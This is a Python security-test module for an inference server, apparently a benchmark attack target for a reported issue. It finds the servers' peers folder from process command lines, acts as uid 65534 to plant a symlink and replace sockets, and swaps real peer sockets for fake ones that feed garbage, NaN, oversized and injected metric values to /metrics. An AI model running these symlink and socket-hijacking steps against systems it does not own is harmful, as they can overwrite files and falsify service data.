"""Issue 39's attack on the api servers' peers folder (``openinfer-serve --api-server-count 2``): what another
local user can do there, and what a lying peer of the server's own user makes /metrics show.

The folder is found as any local user finds it: in the api servers' command lines (``ps``).
"""

from __future__ import annotations

import asyncio
import errno
import os
import socket
import tempfile
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import msgspec

from openinfer.benchmarks.attack_target import Target, get, tally
from openinfer.frontend.metrics.api_servers import ApiServerView

NOBODY = 65534
PEER_VIEW_ERRORS = 'openinfer:protocol_errors_total{kind="peer_view"}'
INJECTED = ('engine="7"', "9.99e+17", "NaN")  # what the lies below put on /metrics, if it shows them


def peers_dir(port: int) -> tuple[Path, list[int]] | None:
    """The ``--peers-dir`` of the api servers listening on HTTP ``port``, and their indices, from their
    command lines; None when there are none (a server of one frontend)."""
    folder, indices = None, []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            argv = cmdline.read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        peers = _flag(argv, "--peers-dir")
        if (
            "openinfer.frontend.process.main" in argv
            and _flag(argv, "--port") == str(port)
            and peers is not None
        ):
            folder = Path(peers)
            indices.append(int(_flag(argv, "--api-server-index") or 0))
    return None if folder is None else (folder, sorted(indices))


def _flag(argv: list[str], name: str) -> str | None:
    """The value of ``name`` in a command line, given as ``name value`` or ``name=value``."""
    for arg, following in zip(argv, [*argv[1:], ""], strict=True):
        if arg == name:
            return following
        if arg.startswith(f"{name}="):
            return arg.split("=", 1)[1]
    return None


def _outcome(action: Callable[[], object]) -> str:
    try:
        action()
        return "done"
    except OSError as e:
        return errno.errorcode.get(e.errno or 0, str(e))


def as_stranger(folder: Path, victim: Path) -> str:
    """What uid 65534 achieves in ``folder``: read a view, plant a link to ``victim`` where the view is
    written, put a socket of its own in a peer's place; done or the error of each."""
    if os.geteuid() != 0:
        return "not root: no other user to act as"
    tries: list[tuple[str, Callable[[], object]]] = [
        ("read a view", lambda: (folder / "api-server-0.view").read_bytes()),
        ("plant a link", lambda: (folder / ".api-server-0.view.tmp").symlink_to(victim)),
        ("replace a socket", lambda: (folder / "api-server-1.sock").unlink()),
        ("add a socket", lambda: socket.socket(socket.AF_UNIX).bind(str(folder / "api-server-1.sock"))),
    ]
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the stranger: its own process, as another user
        try:
            os.setgroups([])
            os.setresgid(NOBODY, NOBODY, NOBODY)
            os.setresuid(NOBODY, NOBODY, NOBODY)
            os.write(write, ", ".join(f"{name}: {_outcome(action)}" for name, action in tries).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as answer:
        said = answer.read().decode()
    os.waitpid(pid, 0)
    return f"as uid {NOBODY}: {said}"


def lies(mb: float) -> list[bytes]:
    """Answers no api server gives: garbage, a view that is no exposition, one of 9.99e17 drafts and an
    engine 7, one of NaN, one of ``mb`` MB."""
    drafts = 'vllm:spec_decode_num_drafts_total{engine="7",model_name="m"} 9.99e17\n'
    up = '# TYPE openinfer:engine_up gauge\nopeninfer:engine_up{engine="7"} %s\n'
    texts = [
        "this is not an exposition {\n",
        f"# TYPE vllm:spec_decode_num_drafts_total counter\n{drafts}{up % '1.0'}",
        up % "NaN",
        up % "1.0" + "# padding\n" * int(mb * 1e5),
    ]
    return [os.urandom(64), *(msgspec.msgpack.encode(ApiServerView(text, {})) for text in texts)]


@asynccontextmanager
async def lying_peers(folder: Path, indices: list[int], answers: list[bytes]) -> AsyncIterator[list[int]]:
    """Sockets of this user's in place of the api servers' (theirs moved aside, and back at the end), which
    answer each request with the next of ``answers``; yields the count of answers given."""
    given = [0]

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
            body = answers[given[0] % len(answers)]
            given[0] += 1
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body))
            writer.write(body)
            await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError):
            pass
        finally:
            writer.close()

    paths = [folder / f"api-server-{index}.sock" for index in indices]
    servers: list[asyncio.Server] = []
    try:
        for path in paths:
            path.rename(path.with_name(f".{path.name}.real"))
            servers.append(await asyncio.start_unix_server(answer, str(path)))
        yield given
    finally:
        for server in servers:
            server.close()
        for path in paths:
            if path.with_name(f".{path.name}.real").exists():
                path.unlink(missing_ok=True)
                path.with_name(f".{path.name}.real").rename(path)


async def hostile_peers_dir(target: Target) -> str:
    """As another user (when run as root), tries the api servers' peers folder; then, as the server's own user,
    puts lying peers in place of the api servers' sockets and scrapes /metrics for ``seconds``: its statuses,
    the scrapes that show an injected value, and the peer_view errors counted."""
    found = peers_dir(target.port)
    if found is None:
        return "no api servers on this port: run openinfer-serve with --api-server-count 2"
    folder, indices = found
    info = folder.stat()
    said = f"peers folder mode {info.st_mode & 0o7777:o}, uid {info.st_uid}"
    with tempfile.TemporaryDirectory() as scratch:
        victim = Path(scratch) / "victim"
        victim.write_bytes(b"precious")
        said += "; " + as_stranger(folder, victim)
        await get(
            target, "/metrics"
        )  # a view saved: a link planted at its temporary file is written through?
        said += f"; the victim file {'kept' if victim.read_bytes() == b'precious' else 'OVERWRITTEN'}"
    if info.st_uid != os.geteuid():
        return said + "; not this user's folder: no lying peer of its user"
    before = await _peer_view_errors(target)
    statuses, shown, deadline = [], 0, time.monotonic() + target.seconds
    async with lying_peers(folder, indices, lies(target.body_mb)) as given:
        while time.monotonic() < deadline:
            async with target.session.get(f"{target.url}/metrics") as response:
                text = await response.text()
            statuses.append(response.status)
            shown += any(value in text for value in INJECTED)
    counted = await _peer_view_errors(target) - before
    return (
        f"{said}; lying peers on {len(indices)} sockets ({given[0]} lies: garbage, no exposition, 9.99e17 "
        f"drafts with engine 7, NaN, {target.body_mb:g} MB): /metrics {tally(statuses)}, injected values "
        f"shown in {shown}; peer_view errors +{counted:.0f}"
    )


async def _peer_view_errors(target: Target) -> float:
    text = await get(target, "/metrics") or ""
    return sum(
        float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(PEER_VIEW_ERRORS)
    )
